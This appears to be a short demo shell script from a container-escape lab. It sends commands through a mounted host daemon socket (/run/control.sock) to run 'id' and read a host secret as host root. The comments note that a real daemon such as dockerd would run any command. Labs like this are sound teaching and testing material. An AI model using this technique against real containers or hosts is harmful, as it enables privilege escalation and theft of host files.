# Attack: /run/control.sock is a host daemon's socket. What we ask, it does, as
# host root, outside this container. (This demo daemon knows only "id" and
# "cat secret"; a real one, such as dockerd, runs anything.)
ls -l /run/control.sock
echo "we are: $(id)"
echo "the daemon is: $(mc-escape-host-control-socket /run/control.sock id)"
if secret=$(mc-escape-host-control-socket /run/control.sock "cat secret"); then
    echo "the daemon read a host file for us"
    echo "PROOF $secret"
else
    echo "$secret"
fi
